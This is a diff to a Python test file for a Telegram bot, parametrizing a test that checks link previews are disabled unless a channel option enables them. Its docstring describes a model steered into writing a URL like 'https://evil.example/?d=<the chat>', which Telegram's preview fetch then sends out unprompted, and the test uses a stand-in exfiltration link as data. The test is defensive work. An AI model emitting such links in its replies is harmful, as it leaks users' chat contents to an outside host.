@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import time
 
+import pytest
+
 from bot.store.kv import KeyValueStore
 from tests.fakes import telegram_api
 from tests.fakes.daemons import asked as _user_texts
@@ -319,13 +321,17 @@ async def test_an_answer_mentions_no_one_by_id(telegram_daemon, fake_telegram) -
     assert [e.get("url") for e in sent["entities"]] == ["https://x.org"]
 
 
-async def test_the_bots_messages_show_no_link_preview(telegram_daemon, fake_telegram) -> None:
+@pytest.mark.parametrize("link_previews", [False, True])
+async def test_the_bots_messages_show_no_link_preview(
+    telegram_daemon, fake_telegram, link_previews: bool
+) -> None:
     """Telegram's servers fetch a message's first link to preview it, with no one
     clicking: a model steered into writing https://evil.example/?d=<the chat> leaked it
-    by itself. Answers, edits (a preview becoming the answer) and previews go without."""
+    by itself. Answers, edits (a preview becoming the answer) and previews go without,
+    unless the channel's ``link_previews`` says otherwise."""
     from bot.messages import ChatKey, OutboundMessage
 
-    _, channel = await telegram_daemon()
+    _, channel = await telegram_daemon(link_previews=link_previews)
     key = ChatKey("telegram", "42")
     link = "see https://evil.example/p.png?d=secret"
     preview = await channel.post_preview(key, link, None)
@@ -333,4 +339,5 @@ async def test_the_bots_messages_show_no_link_preview(telegram_daemon, fake_tele
     await channel.send(OutboundMessage(key, link))
     calls = [c for c in fake_telegram.calls if c.method in ("sendMessage", "editMessageText")]
     assert [c.method for c in calls] == ["sendMessage", "editMessageText", "sendMessage"]
-    assert all(c.params["link_preview_options"] == {"is_disabled": True} for c in calls)
+    shown = [c.params.get("link_preview_options") for c in calls]
+    assert shown == [None if link_previews else {"is_disabled": True}] * 3
